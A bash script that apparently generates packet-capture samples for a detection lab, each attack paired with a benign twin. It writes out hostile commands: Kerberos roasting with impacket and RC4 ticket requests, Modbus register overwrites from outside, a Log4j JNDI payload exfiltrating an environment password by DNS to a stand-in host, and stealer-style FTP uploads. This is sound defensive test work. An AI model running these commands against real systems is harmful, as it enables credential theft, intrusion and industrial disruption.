# shellcheck shell=bash disable=SC2154 # sourced by record-samples.sh after lab.sh
# What is rarely seen: Tor, desktops from outside, roasted tickets, commands to a controller, a strobe, a place of one's own, a changed habit.

# --- Tor ----------------------------------------------------------------------------------------------------

# tor_node NAME ADDRESS ORPORT LINES...: settings of a node of the laboratory's own Tor network.
tor_node() {
    local dir=$work/tor/$1
    mkdir -p "$dir"
    {
        cat "$work/tor/common"
        printf 'DataDirectory %s\nNickname %s\nAddress %s\nORPort %s:%s\nOutboundBindAddress %s\n' "$dir" "$1" "$2" "$2" "$3" "$2"
        printf 'AssumeReachable 1\nExitRelay 1\nExitPolicy accept *:*\nExitPolicyRejectPrivate 0\nContactInfo lab@example.org\nSocksPort 0\n'
        printf '%s\n' "${@:4}"
    } >"$work/tor/$1.conf"
}

# tor_network: one authority and three relays on addresses of the server.
tor_network() {
    local keys=$work/tor/guide/keys ident print n=0 name
    addresses server 203.0.113 70 73
    mkdir -p "$keys"
    chmod -R 700 "$work/tor"
    printf 'TestingTorNetwork 1\nLog notice stdout\nRunAsDaemon 0\nDisableDebuggerAttachment 0\n' >"$work/tor/common"
    (cd "$keys" && echo laboratory | tor-gencert --create-identity-key -m 12 -a 203.0.113.70:9030 --passphrase-fd 0 >/dev/null 2>&1)
    ident=$(awk '/^fingerprint/ {print $2}' "$keys/authority_certificate")
    tor_node guide 203.0.113.70 9001 'DirPort 203.0.113.70:9030' 'AuthoritativeDirectory 1' 'V3AuthoritativeDirectory 1' \
        'TestingV3AuthInitialVotingInterval 5' 'TestingV3AuthInitialVoteDelay 2' 'TestingV3AuthInitialDistDelay 2' 'V3AuthVotingInterval 20' 'V3AuthVoteDelay 4' 'V3AuthDistDelay 4' \
        'TestingDirAuthVoteExit *' 'TestingDirAuthVoteGuard *' 'TestingDirAuthVoteHSDir *'
    print=$(tor --list-fingerprint -f "$work/tor/guide.conf" --quiet --DirAuthority "guide orport=9001 v3ident=$ident 203.0.113.70:9030 ffffffffffffffffffffffffffffffffffffffff" |
        awk '{$1 = ""; gsub(" ", ""); print}' | tail -n 1)
    echo "DirAuthority guide orport=9001 no-v2 v3ident=$ident 203.0.113.70:9030 $print" >>"$work/tor/common"
    tor_node guide 203.0.113.70 9001 "$(sed -n '/^DirPort/,$p' "$work/tor/guide.conf")"
    for name in alder birch cedar; do
        n=$((n + 1))
        tor_node "$name" "203.0.113.7$n" 9001
    done
    for name in guide alder birch cedar; do start server tor -f "$work/tor/$name.conf"; done
}

sample_tor() {
    begin tor pcap.gz
    local n
    tor_network
    settle_all
    mkdir -p -m 700 "$work/tor/client"
    {
        cat "$work/tor/common"
        printf 'DataDirectory %s\nSocksPort 127.0.0.1:9050\nConnectionPadding 0\n' "$work/tor/client"
    } >"$work/tor/client.conf"
    # The relays have to know each other first.
    for n in $(seq 90); do
        [ "$(grep -c '^r ' "$work/tor/guide/cached-microdesc-consensus" 2>/dev/null || true)" = 4 ] && break
        sleep 1
    done
    echo "tor: consensus after $n s"
    watch
    start client tor -f "$work/tor/client.conf"
    for n in $(seq 60); do
        grep -qs 'Bootstrapped 100' "$work/log.client.tor" && break
        sleep 0.5
    done
    on client curl -s --max-time 10 --socks5-hostname 127.0.0.1:9050 -o /dev/null http://203.0.113.50/ || true
    watched
    no_addresses server 203.0.113 70 73
    expect tor 10.20.0.10 203.0.113.70-73 "invented server names, port 9001"
    origin "Tor: a client builds circuits and fetches a page" <<'TEXT'
tor on 10.20.0.10 joins a Tor network of the laboratory's own (one directory authority and three relays, 203.0.113.70 to .73, port 9001,
TestingTorNetwork), and curl fetches a page of 203.0.113.50 through it. The links are Tor's own TLS with an invented server name each.
TEXT
}

sample_twin_tls_9001() {
    begin twin_tls_9001 pcap.gz
    addresses server 203.0.113 70 71
    settle_all
    for n in 70 71; do start server openssl s_server -quiet -www -accept "203.0.113.$n:9001" -cert "$work/cert.pem" -key "$work/key.pem"; done
    sleep 1
    watch
    for n in 70 71; do
        on client curl -s -k --max-time 4 -o /dev/null --connect-to "www.example.com:9001:203.0.113.$n:9001" https://www.example.com:9001/ || true
        on client curl -s -k --max-time 4 -o /dev/null --connect-to "shop24.example.org:9001:203.0.113.$n:9001" https://shop24.example.org:9001/ || true
    done
    watched
    no_addresses server 203.0.113 70 71
    quiet
    origin "Web servers on Tor's port" <<'TEXT'
curl on 10.20.0.10 asks two TLS servers (openssl s_server on 203.0.113.70 and .71) on port 9001, where relays of Tor mostly listen, with names that
somebody chose.
TEXT
}

# --- a desktop from outside ---------------------------------------------------------------------------------

# look_at_desktop NS: a few pictures of the desktop of 10.20.0.20.
look_at_desktop() {
    start desk Xvnc :5 -rfbport 5900 -SecurityTypes None -geometry 160x100 -depth 16 -AlwaysShared
    sleep 2
    watch
    for _ in 1 2 3; do patience=5 on "$1" vncsnapshot -quiet -encodings raw 10.20.0.20:0 "$work/desktop.jpg" >/dev/null 2>&1 || true; done
    watched
}

sample_remote_vnc() {
    begin remote_vnc pcap.gz
    settle_all
    look_at_desktop stranger
    expect remote_access_tool 198.51.100.66 10.20.0.20 "VNC from outside"
    origin "A desktop seen from outside: VNC" <<'TEXT'
vncsnapshot on 198.51.100.66 takes three pictures of the desktop of 10.20.0.20 (Xvnc, no password, 160 x 100).
TEXT
}

sample_twin_vnc_inside() {
    begin twin_vnc_inside pcap.gz
    settle_all
    look_at_desktop client
    quiet
    origin "A desktop seen from the next desk: VNC" <<'TEXT'
vncsnapshot on 10.20.0.10 takes three pictures of the desktop of 10.20.0.20: the same as in remote_vnc, inside the site.
TEXT
}

# --- tickets ------------------------------------------------------------------------------------------------

# realm KEYS: a key distribution centre (MIT Kerberos) on 10.20.0.20 with six people, and eight services with keys of this kind.
realm() {
    local n
    mkdir -p "$work/kdc"
    cat >"$work/krb5.conf" <<CONF
[libdefaults]
  default_realm = SITE.EXAMPLE
  dns_lookup_kdc = false
  dns_lookup_realm = false
  dns_canonicalize_hostname = false
  rdns = false
  allow_weak_crypto = true
  allow_rc4 = true
  permitted_enctypes = aes256-cts-hmac-sha1-96 arcfour-hmac
  udp_preference_limit = 1
[realms]
  SITE.EXAMPLE = {
    kdc = 10.20.0.20
  }
[logging]
  default = FILE:$work/kdc/log
CONF
    cat >"$work/kdc.conf" <<CONF
[kdcdefaults]
  kdc_listen = 10.20.0.20:88
  kdc_tcp_listen = 10.20.0.20:88
[realms]
  SITE.EXAMPLE = {
    database_name = $work/kdc/principal
    key_stash_file = $work/kdc/stash
    supported_enctypes = aes256-cts-hmac-sha1-96:normal arcfour-hmac:normal
  }
CONF
    export KRB5_CONFIG=$work/krb5.conf KRB5_KDC_PROFILE=$work/kdc.conf KRB5CCNAME=FILE:$work/tickets
    kdb5_util create -s -r SITE.EXAMPLE -P laboratory >/dev/null
    {
        echo "addprinc -pw summer2026 +requires_preauth alice"
        for n in erin frank grace heidi ivan; do echo "addprinc -pw winter-$n -requires_preauth $n"; done
        for n in MSSQLSvc/db1 MSSQLSvc/db2 HTTP/intranet HTTP/wiki CIFS/files TERMSRV/term1 FTP/old exchange/mail; do echo "addprinc -e $1:normal -pw service-$n $n.site.example"; done
    } >"$work/kdc/people"
    kadmin.local <"$work/kdc/people" >/dev/null 2>&1
    start desk krb5kdc -n
    sleep 1
}

sample_roasting() {
    begin roasting
    local n
    realm arcfour-hmac
    settle_all
    printf '%s\n' erin frank grace heidi ivan alice >"$work/names"
    watch
    # Accounts that need no proof first, with the tool of the trade; then tickets for all services, as weak as can be had.
    on client /usr/bin/python3 /usr/share/doc/python3-impacket/examples/GetNPUsers.py SITE.EXAMPLE/ -usersfile "$work/names" -no-pass -dc-ip 10.20.0.20 -format hashcat >/dev/null 2>&1 || true
    on client sh -c 'echo summer2026 | kinit alice' >/dev/null 2>&1 || true
    for n in MSSQLSvc/db1 MSSQLSvc/db2 HTTP/intranet HTTP/wiki CIFS/files TERMSRV/term1 FTP/old exchange/mail; do
        on client kvno -q -e arcfour-hmac "$n.site.example" >/dev/null 2>&1 || true
    done
    watched
    expect credential_access 10.20.0.10 10.20.0.20 "five accounts without proof (GetNPUsers), then RC4 tickets for eight services"
    origin "Roasting: logins without proof and weak tickets for every service" <<'TEXT'
GetNPUsers (impacket) on 10.20.0.10 asks the key distribution centre on 10.20.0.20 (MIT Kerberos) for logins of six accounts; five need no proof and give
something to crack. Then kinit as alice, and kvno -e arcfour-hmac takes a ticket for each of eight services, whose accounts
have keys of RC4 alone.
TEXT
}

sample_twin_tickets() {
    begin twin_tickets
    local n
    realm aes256-cts-hmac-sha1-96
    settle_all
    watch
    on client sh -c 'echo summer2026 | kinit alice' >/dev/null 2>&1 || true
    for n in MSSQLSvc/db1 MSSQLSvc/db2 HTTP/intranet HTTP/wiki CIFS/files TERMSRV/term1 exchange/mail; do
        on client kvno -q "$n.site.example" >/dev/null 2>&1 || true
    done
    watched
    quiet
    origin "A morning's tickets" <<'TEXT'
alice at 10.20.0.10 logs in at the key distribution centre on 10.20.0.20 and takes tickets for seven services, all with AES, as a desktop does in the morning.
TEXT
}

# --- a controller -------------------------------------------------------------------------------------------

sample_modbus_write() {
    begin modbus_write pcap.gz
    local n
    settle_all
    start desk /usr/bin/python3 "$here/scripts/samples/services.py" modbus 502
    sleep 2
    watch
    on stranger mbpoll -m tcp -a 1 -r 1 -c 30 -t 4 -1 -q 10.20.0.20 >/dev/null 2>&1 || true
    for n in $(seq 30); do
        on stranger mbpoll -m tcp -a 1 -r "$n" -t 4 -1 -q 10.20.0.20 0 >/dev/null 2>&1 || true
    done
    watched
    expect industrial_command 198.51.100.66 10.20.0.20 "Modbus: 30 registers written, from outside"
    origin "Registers of a controller written from outside, one after the other" <<'TEXT'
mbpoll on 198.51.100.66 reads thirty holding registers of the Modbus device on 10.20.0.20 (pymodbus) and then writes zero into each of them.
TEXT
}

sample_twin_modbus_hmi() {
    begin twin_modbus_hmi pcap.gz
    local n
    settle_all
    start desk /usr/bin/python3 "$here/scripts/samples/services.py" modbus 502
    sleep 2
    watch
    for n in $(seq 12); do
        on client mbpoll -m tcp -a 1 -r 1 -c 30 -t 4 -1 -q 10.20.0.20 >/dev/null 2>&1 || true
        on client mbpoll -m tcp -a 1 -r "$((n % 3 + 5))" -t 4 -1 -q 10.20.0.20 "$((n * 10))" >/dev/null 2>&1 || true
        sleep 0.5
    done
    watched
    quiet
    origin "An operator's station at work: Modbus readings and three set points" <<'TEXT'
mbpoll on 10.20.0.10 reads thirty holding registers of 10.20.0.20 (pymodbus) a dozen times and sets one of the same three registers in between.
TEXT
}

# --- a strobe -----------------------------------------------------------------------------------------------

# strobe TARGET SECONDS: 90,000 datagrams, each from the next port, evenly over so many seconds.
strobe() {
    start "$3" nc -u -l -k 7001
    sleep 1
    watch "udp and src host 10.20.0.10"
    on client hping3 -q --udp --destport 7001 --baseport 10000 --id 7 -i u200 -c 90000 "$1" >/dev/null 2>&1 || true
    stop_recording
    python3 "$here/scripts/samples/stretch.py" "$raw" "$raw.long" --even "$2"
    # All packets are of one length, so that what changes from one to the next is the same each time.
    xz -9 --delta=dist=58 --lzma2=preset=9e -c "$raw.long" >"$out"
}

sample_strobe() {
    begin strobe pcap.xz
    settle_all
    strobe 203.0.113.50 86000 server
    expect strobe 10.20.0.10 203.0.113.50 "90,000 exchanges within a day"
    origin "A strobe: more than once a second, all day" <<'TEXT'
hping3 --udp on 10.20.0.10 sends 90,000 empty datagrams to port 7001 of 203.0.113.50, each from the next port of its own; nc listens there and says nothing. **Times
are not as recorded:** scripts/samples/stretch.py lays them evenly over 86,000 seconds. Only what 10.20.0.10 sends was recorded.
TEXT
}

sample_twin_strobe_inside() {
    begin twin_strobe_inside pcap.xz
    settle_all
    strobe 10.20.0.20 86000 desk
    quiet
    origin "A sensor that reports more than once a second, all day, inside the site" <<'TEXT'
hping3 --udp on 10.20.0.10 sends 90,000 empty datagrams to port 7001 of 10.20.0.20, an internal server: as strobe, but nothing leaves. **Times are not as
recorded:** scripts/samples/stretch.py lays them evenly over 86,000 seconds. Only what 10.20.0.10 sends was recorded.
TEXT
}

# --- a place of one's own -----------------------------------------------------------------------------------

# visit NS: a message in a protocol of its own to 203.0.113.66, and the answer.
visit() {
    on "$1" sh -c 'head -c 400 "$0" | timeout 3 nc -N -w 2 203.0.113.66 6789' "$work/site/files/report.bin" >/dev/null 2>&1 || true
}

# ordinary NS: pages that everybody visits.
ordinary() {
    on "$1" curl -4 -s --max-time 2 -o /dev/null http://www.example.com/
    on "$1" curl -4 -s --max-time 2 -o /dev/null http://detectportal.firefox.com/success.txt
}

sample_rare_contact() {
    begin rare_contact
    addresses server 203.0.113 66 66
    start server python3 "$here/scripts/samples/services.py" blob 6789
    settle_all
    watch
    ordinary client
    ordinary desk
    visit client
    visit client
    watched
    no_addresses server 203.0.113 66 66
    expect rare_contact 10.20.0.10 203.0.113.66 "unknown protocol on port 6789 by bare address, one host alone"
    origin "A place that one host alone talks to, in a protocol of its own" <<'TEXT'
Two hosts of the site visit the same pages. 10.20.0.10 also sends 400 bytes that look random to port 6789 of 203.0.113.66, twice, with nc; the answer (scripts/samples/services.py)
looks alike. No name led there.
TEXT
}

sample_twin_common_place() {
    begin twin_common_place
    addresses server 203.0.113 66 66
    start server python3 "$here/scripts/samples/services.py" blob 6789
    settle_all
    watch
    for ns in client desk; do
        ordinary "$ns"
        visit "$ns"
    done
    watched
    no_addresses server 203.0.113 66 66
    quiet
    origin "An odd place that more than one host talks to" <<'TEXT'
As rare_contact, but both hosts of the site send 400 bytes to port 6789 of 203.0.113.66: somebody's product with a protocol of its own.
TEXT
}

# --- a changed habit ----------------------------------------------------------------------------------------

# days HOSTS: thirty hours with four questions of each host, then an hour with 220 of them. An hour is a pause of 1.2 seconds, stretched.
days() {
    local hour n host
    watch
    for hour in $(seq 30); do
        for host in "$@"; do on client dig +tries=1 -b "$host" www.example.com A static.example.com A shop.example.org A www.example.com AAAA >/dev/null; done
        sleep 1.2
    done
    for host in "$@"; do
        seq 220 | awk '{print "www.example.com A"}' >"$work/questions"
        on client dig +tries=1 -b "$host" -f "$work/questions" >/dev/null
    done
    stop_recording
    python3 "$here/scripts/samples/stretch.py" "$raw" "$raw.long" --factor 3000 --above 1
    keep "$raw.long"
}

sample_behaviour_change() {
    begin behaviour_change pcap.gz
    settle_all
    days 10.20.0.10
    expect behaviour_change 10.20.0.10 203.0.113.53 "thirty quiet hours, then 220 questions in one"
    origin "A host that behaves unlike itself" <<'TEXT'
dig on 10.20.0.10 asks four questions an hour for thirty hours, and then 220 within a minute. **Times are not as recorded:** pauses of 1.2 seconds are an hour
long (scripts/samples/stretch.py); what happens within an hour keeps its times.
TEXT
}

sample_twin_monday() {
    begin twin_monday pcap.gz
    addresses client 10.20.0 11 14
    settle_all
    days 10.20.0.10 10.20.0.11 10.20.0.12 10.20.0.13 10.20.0.14
    no_addresses client 10.20.0 11 14
    quiet
    origin "An hour in which everybody behaves differently" <<'TEXT'
Five hosts (10.20.0.10 to .14, one machine with five addresses) ask four questions an hour for thirty hours, and then 220 each within the same hour, as on a Monday morning.
**Times are not as recorded:** pauses of 1.2 seconds are an hour long (scripts/samples/stretch.py).
TEXT
}

# --- reports and lookups --------------------------------------------------------------------------------------

# hand_in HOST NAME: a page of text goes to an FTP server under this name.
hand_in() {
    printf 'Time: 11/26/2026 12:00:00<br>User Name: jane<br>Computer Name: DESKTOP-7<br><hr>nothing<br>' >"$work/page"
    on client curl -s --max-time 5 -o /dev/null -T "$work/page" "ftp://alice:summer2026@$1/$2" || true
}

sample_stealer_report() {
    begin stealer_report
    ftp_server server
    settle_all
    watch
    hand_in 203.0.113.50 PW_jane-DESKTOP-7_2026_11_26_12_00_00.html
    hand_in 203.0.113.50 KL_jane-DESKTOP-7_2026_11_26_12_20_00.html
    watched
    expect exfiltration 10.20.0.10 203.0.113.50 "two files named as a stealer names them"
    origin "Reports of a keylogger, by FTP" <<'TEXT'
curl on 10.20.0.10 puts two small files on vsftpd at 203.0.113.50 (alice), named as Agent Tesla names what it found: a code for the content, user, machine, time. The
files hold nothing.
TEXT
}

sample_twin_ftp_backup() {
    begin twin_ftp_backup
    ftp_server
    settle_all
    watch
    hand_in 10.20.0.20 jane-DESKTOP-7_2026_11_26_12_00_00.zip
    hand_in 10.20.0.20 backup-2026-11-26.tar.gz
    watched
    quiet
    origin "A backup of a workstation, by FTP" <<'TEXT'
curl on 10.20.0.10 puts two files on vsftpd at the internal server 10.20.0.20 (alice), one of them named after user, machine and time.
TEXT
}

# ask_with EXPRESSION: a request from outside whose User-Agent is this.
ask_with() { on stranger curl -s --max-time 3 -o /dev/null -A "$1" http://10.20.0.20/; }

sample_lookup_obeyed() {
    begin lookup_obeyed
    start desk python3 "$here/scripts/samples/services.py" web 80
    sleep 1
    settle_all
    watch
    # shellcheck disable=SC2016 # the expression is for the server
    ask_with '${jndi:dns://198.51.100.66/${env:DB_PASSWORD}}'
    # What a server with Log4j 2.14 does with it; nobody listens at the other end.
    on desk dig +tries=1 +timeout=1 @198.51.100.66 hunter2 TXT >/dev/null || true
    watched
    expect exfiltration 10.20.0.20 198.51.100.66 "a secret of the environment in a DNS question"
    origin "A lookup in a request, and the server that obeys it" <<'TEXT'
curl on 198.51.100.66 sends a request with ${jndi:dns://198.51.100.66/${env:DB_PASSWORD}} as its User-Agent to the web server on 10.20.0.20. dig on 10.20.0.20 then asks 198.51.100.66 for
the name hunter2 (TXT), as Log4j 2.14 would with that password in its environment. Nobody answers.
TEXT
}

sample_twin_lookup_ignored() {
    begin twin_lookup_ignored
    start desk python3 "$here/scripts/samples/services.py" web 80
    sleep 1
    settle_all
    watch
    on desk dig +tries=1 +timeout=1 @203.0.113.53 www.example.com TXT >/dev/null || true
    on stranger curl -s --max-time 3 -o /dev/null http://10.20.0.20/
    on stranger curl -s --max-time 3 -o /dev/null 'http://10.20.0.20/?q=jndi+ldap+configuration'
    watched
    quiet
    origin "Somebody searches for documentation of JNDI" <<'TEXT'
curl on 198.51.100.66 asks the web server on 10.20.0.20 for two pages, one with the words jndi and ldap in its query; 10.20.0.20 asks its resolver for a name.
TEXT
}

all+=(tor twin_tls_9001 remote_vnc twin_vnc_inside roasting twin_tickets modbus_write twin_modbus_hmi strobe twin_strobe_inside rare_contact twin_common_place
    behaviour_change twin_monday stealer_report twin_ftp_backup lookup_obeyed twin_lookup_ignored)
